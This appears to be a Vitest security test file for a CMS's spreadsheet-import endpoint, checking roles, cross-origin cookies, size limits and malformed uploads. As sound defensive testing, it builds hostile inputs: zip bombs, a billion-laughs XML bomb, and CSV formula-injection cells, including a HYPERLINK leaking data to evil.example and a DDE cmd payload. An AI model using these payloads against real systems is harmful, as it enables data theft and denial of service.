/**
 * The spreadsheet import endpoint over real HTTP (`next start` on 127.0.0.1), attacked: every role but editors and
 * admins refused on every way of signing in (token, session cookie, API key read-only or read-write) for check and
 * import alike; a session cookie from another site or port, or with no Origin, counts for nothing; bodies larger than
 * a spreadsheet may be, announced or streamed, get 413; malformed workbooks, zip bombs and XML bombs get 422 with a
 * reason; cells a spreadsheet would run as formulas are stored as the text they are. Problems come back by sheet,
 * row and column, in Thai unless the request asks for English, and nothing is written unless every row is right.
 */
import { request as httpRequest } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openHttpCms, type HttpCms } from '../support/httpCms.ts'
import type { Json } from '../support/json.ts'
import { csv, rezip, withClaimedSizes, xlsx, zip } from '../support/sheets.ts'

let http: HttpCms
const tokens: Record<string, string> = {}
const cookies: Record<string, string> = {}
const keys = { readOnly: 'users API-Key 0a0a0a0a-1111-2222-3333-444444444444', readWrite: 'users API-Key 0b0b0b0b-1111-2222-3333-444444444444' }
const thai = /[\u0E00-\u0E7F]/

const organizations = (slug: string, extra: string[][] = []) =>
  csv([['slug', 'name_th', 'name_ja', 'kind', 'summary_th'], [slug, 'องค์การทดสอบ', 'テスト機構', 'international-organization', 'องค์การระหว่างประเทศ'], ...extra])

/** The multipart form the admin page sends. */
function sheetForm(name: string, bytes: Uint8Array, fields: Record<string, string> = {}): FormData {
  const form = new FormData()
  form.append('file', new Blob([new Uint8Array(bytes)]), name)
  for (const [key, value] of Object.entries(fields)) form.append(key, value)
  return form
}

async function post(body: BodyInit, headers: Record<string, string> = {}): Promise<{ status: number; json: Json }> {
  const response = await fetch(`${http.cms.url}/api/import-sheet`, { method: 'POST', headers, body })
  const text = await response.text()
  try {
    return { status: response.status, json: JSON.parse(text) }
  } catch {
    return { status: response.status, json: { text } }
  }
}

/** A person's request as the admin page sends it: their session cookie, from the CMS's own origin. */
const fromTheAdmin = (who = 'editor') => ({ Cookie: cookies[who]!, Origin: http.cms.url })
const count = async (collection: string, slug: string) =>
  (await http.api(`/api/${collection}?where[slug][equals]=${slug}&draft=true&depth=0`, { token: tokens.admin })).body.totalDocs as number

/**
 * The status answered to `megabytes` MB sent in 1 MB chunks, announced by Content-Length or streamed, on a connection
 * of its own (the server may answer before the body is read).
 */
function streamed(megabytes: number, headers: Record<string, string>): Promise<number> {
  return new Promise((done, fail) => {
    const { hostname, port } = new URL(http.cms.url)
    const request = httpRequest(
      { hostname, port, agent: false, method: 'POST', path: '/api/import-sheet', headers: { ...fromTheAdmin(), ...headers } },
      (response) => {
        response.resume()
        done(response.statusCode ?? 0)
        request.destroy()
      },
    )
    request.on('error', (error) => (request.destroyed ? undefined : fail(error)))
    const chunk = Buffer.alloc(1_000_000, 'a')
    let sent = 0
    const send = () => {
      while (sent < megabytes && !request.destroyed) {
        sent++
        if (!request.write(chunk)) return request.once('drain', send)
      }
      if (!request.destroyed) request.end()
    }
    send()
  })
}

beforeAll(async () => {
  http = await openHttpCms()
  tokens.admin = await http.login({ email: 'admin@example.org', password: 'Sawasdee-Krung-2026' })
  const people = {
    editor: { role: 'editor' },
    translator: { role: 'translator', translatorLocales: ['en'] },
    reader: { role: 'bma-reader' },
    english: { role: 'editor', language: 'en' },
  }
  for (const [who, extra] of Object.entries(people)) {
    const email = `${who}@example.org`
    const password = 'Wat-Arun-Riverside-Dawn-2026'
    const created = await http.api('/api/users', { method: 'POST', token: tokens.admin, json: { email, password, ...extra } })
    expect(created.status, JSON.stringify(created.body)).toBe(201)
    const signIn = await fetch(`${http.cms.url}/api/users/login`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Origin: http.cms.url },
      body: JSON.stringify({ email, password }),
    })
    tokens[who] = ((await signIn.json()) as { token: string }).token
    cookies[who] = (signIn.headers.get('set-cookie') ?? '').split(';')[0]!
  }
  for (const [access, key] of [
    ['read', keys.readOnly],
    ['read-write', keys.readWrite],
  ] as const) {
    const created = await http.api('/api/users', {
      method: 'POST',
      token: tokens.admin,
      json: { email: `key-${access}@example.org`, password: 'Zebra-Quantum-Harbor-7781', role: 'editor', enableAPIKey: true, apiKey: key.split(' ').at(-1) },
    })
    expect(created.status, JSON.stringify(created.body)).toBe(201)
    if (access === 'read-write')
      await http.api(`/api/users/${created.body.doc.id}`, { method: 'PATCH', token: tokens.admin, json: { apiKeyAccess: 'read-write' } })
  }
})

afterAll(async () => {
  await http?.cms.stop()
})

describe('who may import', () => {
  it('refuses anonymous, BMA readers, translators and read-only API keys, by token, cookie and key, for check and import alike', async () => {
    for (const mode of ['check', 'import']) {
      const form = () => sheetForm('organizations.csv', organizations('wrong-role'), { mode })
      const answers = {
        anonymous: await post(form()),
        'reader by token': await post(form(), { Authorization: `JWT ${tokens.reader}` }),
        'reader by cookie': await post(form(), fromTheAdmin('reader')),
        'translator by token': await post(form(), { Authorization: `JWT ${tokens.translator}` }),
        'translator by cookie': await post(form(), fromTheAdmin('translator')),
        'editor by a read-only key': await post(form(), { Authorization: keys.readOnly }),
      }
      const statuses = Object.fromEntries(Object.entries(answers).map(([who, { status }]) => [who, status]))
      expect(statuses).toEqual({
        anonymous: 401,
        'reader by token': 403,
        'reader by cookie': 403,
        'translator by token': 403,
        'translator by cookie': 403,
        'editor by a read-only key': 403,
      })
      // Told in Thai, the default.
      expect(answers.anonymous.json.errors[0].message).toBe('กรุณาเข้าสู่ระบบในฐานะบรรณาธิการหรือผู้ดูแลระบบก่อนนำเข้าไฟล์ตาราง')
      expect(answers['translator by cookie'].json.errors[0].message).toBe('เฉพาะบรรณาธิการและผู้ดูแลระบบเท่านั้นที่นำเข้าข้อมูลจากไฟล์ตารางได้')
      expect(answers['editor by a read-only key'].json.errors[0].message).toMatch(/^กุญแจ API นี้ใช้อ่านได้อย่างเดียว/)
    }
    expect(await count('organizations', 'wrong-role')).toBe(0)
  })

  it('lets an editor on the admin’s own pages check without writing, then import; an admin’s token and a read-write key import too', async () => {
    const checked = await post(sheetForm('organizations.csv', organizations('by-editor')), fromTheAdmin())
    expect(checked.status, JSON.stringify(checked.json)).toBe(200)
    expect(checked.json).toMatchObject({ mode: 'check', rows: [{ sheet: 'organizations.csv', row: 2, slug: 'by-editor', action: 'create' }] })
    expect(await count('organizations', 'by-editor')).toBe(0)
    const imported = await post(sheetForm('organizations.csv', organizations('by-editor'), { mode: 'import' }), fromTheAdmin())
    expect(imported.json.summary).toMatchObject({ created: 1 })
    expect(await count('organizations', 'by-editor')).toBe(1)
    const again = await post(sheetForm('organizations.csv', organizations('by-editor'), { mode: 'import' }), { Authorization: `JWT ${tokens.admin}` })
    expect(again.json.summary).toMatchObject({ created: 0, unchanged: 1 })
    const byKey = await post(sheetForm('organizations.csv', organizations('by-key'), { mode: 'import' }), { Authorization: keys.readWrite })
    expect(byKey.status, JSON.stringify(byKey.json)).toBe(200)
    expect(await count('organizations', 'by-key')).toBe(1)
  })
})

describe('requests from other sites', () => {
  it('a session cookie from another origin, another port of this host, or with no Origin at all counts for nothing', async () => {
    // A multipart POST is a "simple" request: a browser sends it from any page without asking first.
    for (const headers of [
      { Cookie: cookies.editor!, Origin: 'https://evil.example' } as Record<string, string>,
      { Cookie: cookies.editor!, Origin: 'http://127.0.0.1:4321' },
      { Cookie: cookies.editor!, Origin: 'null' },
      { Cookie: cookies.editor! },
    ]) {
      const answer = await post(sheetForm('organizations.csv', organizations('cross-site'), { mode: 'import' }), headers)
      expect(answer.status, JSON.stringify(headers)).toBe(401)
    }
    expect(await count('organizations', 'cross-site')).toBe(0)
  })

  it('gives another origin no CORS permission to send a token', async () => {
    const preflight = await fetch(`${http.cms.url}/api/import-sheet`, {
      method: 'OPTIONS',
      headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'authorization' },
    })
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull()
    expect(preflight.headers.get('access-control-allow-credentials')).toBeNull()
  })
})

describe('bad requests', () => {
  it('refuses a file larger than a spreadsheet may be with 413, in the form or streamed past the upload limit', async () => {
    const big = await post(sheetForm('organizations.csv', Buffer.concat([organizations('too-big'), Buffer.alloc(21_000_000, 'a')])), fromTheAdmin())
    expect(big.status, JSON.stringify(big.json)).toBe(413)
    expect(big.json.errors[0].message).toBe('ไฟล์ใหญ่เกิน 20,000,000 ไบต์ กรุณาแบ่งเป็นหลายไฟล์')
    const multipart = { 'Content-Type': 'multipart/form-data; boundary=x' }
    expect(await streamed(40, { ...multipart, 'Content-Length': '40000000' })).toBe(413)
    expect(await streamed(40, { ...multipart, 'Transfer-Encoding': 'chunked' })).toBe(413)
    expect(await count('organizations', 'too-big')).toBe(0)
  })

  it('refuses a body that is not a form, a form without a file, an unknown mode or collection with 400, and other methods without a server error', async () => {
    const raw = await post(new Uint8Array(organizations('raw')), { ...fromTheAdmin(), 'Content-Type': 'text/csv' })
    expect(raw.status).toBe(400)
    expect(raw.json.errors[0].message).toMatch(/multipart\/form-data/)
    const noFile = new FormData()
    noFile.append('file', 'slug,name_th\nx,y')
    expect((await post(noFile, fromTheAdmin())).status).toBe(400)
    expect((await post(sheetForm('a.csv', organizations('x'), { mode: 'delete-everything' }), fromTheAdmin())).status).toBe(400)
    const users = await post(sheetForm('a.csv', organizations('x'), { collection: 'users' }), fromTheAdmin())
    expect(users.status).toBe(400)
    expect(users.json.errors[0].message).toMatch(/^"users" ไม่ใช่ประเภทข้อมูลที่นำเข้าได้/)
    for (const method of ['GET', 'PUT', 'DELETE']) {
      const answer = await fetch(`${http.cms.url}/api/import-sheet`, { method, headers: { Authorization: `JWT ${tokens.editor}` } })
      expect(answer.status, method).toBeGreaterThanOrEqual(400)
      expect(answer.status, method).toBeLessThan(500)
    }
  })
})

describe('hostile files', () => {
  const workbook = () =>
    xlsx({
      organizations: [
        ['slug', 'name_th', 'kind', 'summary_th'],
        ['hostile-book', 'ทดสอบ', 'other', 'ทดสอบ'],
      ],
    })
  const files: [string, () => Promise<Buffer>, RegExp][] = [
    ['a workbook cut in half', async () => (await workbook()).subarray(0, 2_000), /ไฟล์ Excel เสียหาย/],
    ['a zip header and then noise', async () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(5_000, 0x5a)]), /ไฟล์ Excel เสียหาย/],
    ['a zip that is no workbook', () => zip({ 'hello.txt': 'สวัสดี' }), /^(เปิดเป็นไฟล์ Excel ไม่ได้|ไม่มีแผ่นงานที่ตั้งชื่อตามประเภทข้อมูล)/],
    [
      'a worksheet of broken XML',
      async () => rezip(await workbook(), { 'xl/worksheets/sheet1.xml': '<worksheet><sheetData><row r="1"><c' }),
      /เปิดเป็นไฟล์ Excel ไม่ได้/,
    ],
    [
      'a worksheet nested 100,000 elements deep',
      async () => rezip(await workbook(), { 'xl/worksheets/sheet1.xml': `<worksheet>${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}</worksheet>` }),
      /^(เปิดเป็นไฟล์ Excel ไม่ได้|ไม่มีแผ่นงาน|ไม่มีคอลัมน์ slug|ต้องเป็นแถวหัวตาราง)/,
    ],
    ['a zip bomb', () => zip({ '[Content_Types].xml': '<Types/>', 'xl/worksheets/sheet1.xml': 120_000_000 }), /zip bomb/],
    [
      'a zip bomb that lies about its size',
      async () => withClaimedSizes(await zip({ 'xl/worksheets/sheet1.xml': 20_000_000 }), 1_000),
      /(zip bomb|ไฟล์ Excel เสียหาย)/,
    ],
    [
      'entities that expand (an XML bomb)',
      async () => {
        const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`
        return rezip(await workbook(), {
          'xl/sharedStrings.xml': `${laughs}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>`,
        })
      },
      /เปิดเป็นไฟล์ Excel ไม่ได้/,
    ],
  ]
  for (const [name, make, reason] of files) {
    it(`${name}: 422 with the reason, nothing written`, async () => {
      const answer = await post(sheetForm('book.xlsx', await make(), { mode: 'import' }), fromTheAdmin())
      expect(answer.status, JSON.stringify(answer.json)).toBe(422)
      expect(answer.json.problems.map((p: { reason: string }) => p.reason).join('\n')).toMatch(reason)
      expect(await count('organizations', 'hostile-book')).toBe(0)
    })
  }

  it('stores cells a spreadsheet would run as formulas as the text they are', async () => {
    const cells = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "=cmd|' /C calc'!A0", '+66 2 224 1234', '-2+3', '@SUM(A1:A9)']
    const rows = cells.map((cell, i) => [`formula-${i}`, 'ทดสอบสูตร', cell, 'other', 'ทดสอบ'])
    const answer = await post(
      sheetForm('organizations.csv', csv([['slug', 'name_th', 'name_en', 'kind', 'summary_th'], ...rows]), { mode: 'import' }),
      fromTheAdmin(),
    )
    expect(answer.status, JSON.stringify(answer.json)).toBe(200)
    for (const [i, cell] of cells.entries()) {
      const { docs } = (await http.api(`/api/organizations?where[slug][equals]=formula-${i}&locale=en&depth=0`, { token: tokens.admin })).body
      expect(docs[0].name).toBe(cell)
    }
  })
})

describe('problems', () => {
  const bad = () => organizations('bad-rows', [['bad-rows', '', '条約機構', 'treaty', '']])

  it('come back with sheet, row, column and reason, in Thai, and nothing is written', async () => {
    const answer = await post(sheetForm('organizations.csv', bad(), { mode: 'import' }), fromTheAdmin())
    expect(answer.status).toBe(422)
    expect(answer.json.problems).toEqual([
      { sheet: 'organizations.csv', row: 3, column: 'A', header: 'slug', reason: 'slug "bad-rows" ซ้ำกับแถวที่ 2 รายการหนึ่งมีได้แถวเดียว' },
    ])
    const book = await xlsx({
      organizations: [
        ['slug', 'name_ja', 'kind', 'since'],
        ['bad-book', '条約機構', 'treaty', '2549-01-01'],
      ],
    })
    const problems = (await post(sheetForm('ข้อมูลองค์กร.xlsx', book), fromTheAdmin())).json.problems
    // In reading order: row by row, column by column, then the columns the sheet lacks.
    expect(problems).toEqual([
      {
        sheet: 'ข้อมูลองค์กร.xlsx › organizations',
        row: 2,
        column: 'C',
        header: 'kind',
        reason: expect.stringMatching(/^เป็น "treaty" ซึ่งไม่ใช่ค่าที่ใช้ได้ ใช้ได้เฉพาะ: international-organization, /),
      },
      {
        sheet: 'ข้อมูลองค์กร.xlsx › organizations',
        row: 2,
        column: 'D',
        header: 'since',
        reason: '2549-01-01 เป็นปีพุทธศักราช (พ.ศ. 2549 คือ ค.ศ. 2006) กรุณาใส่วันที่เป็นปีคริสต์ศักราช แบบ ปี-เดือน-วัน',
      },
      { sheet: 'ข้อมูลองค์กร.xlsx › organizations', row: 2, header: 'name_th', reason: 'ต้องกรอก (ไฟล์ไม่มีคอลัมน์ name_th)' },
      { sheet: 'ข้อมูลองค์กร.xlsx › organizations', row: 2, header: 'summary_th', reason: 'ต้องกรอก (ไฟล์ไม่มีคอลัมน์ summary_th)' },
    ])
    expect(problems.every((p: { reason: string }) => thai.test(p.reason))).toBe(true)
    expect(await count('organizations', 'bad-rows')).toBe(0)
    expect(await count('organizations', 'bad-book')).toBe(0)
  })

  it('are in English for an account that works in English', async () => {
    const answer = await post(sheetForm('organizations.csv', bad()), { Authorization: `JWT ${tokens.english}`, 'Accept-Language': 'en' })
    expect(answer.json.problems[0].reason).toBe('repeats "bad-rows" of row 2: one row per entry')
  })
})
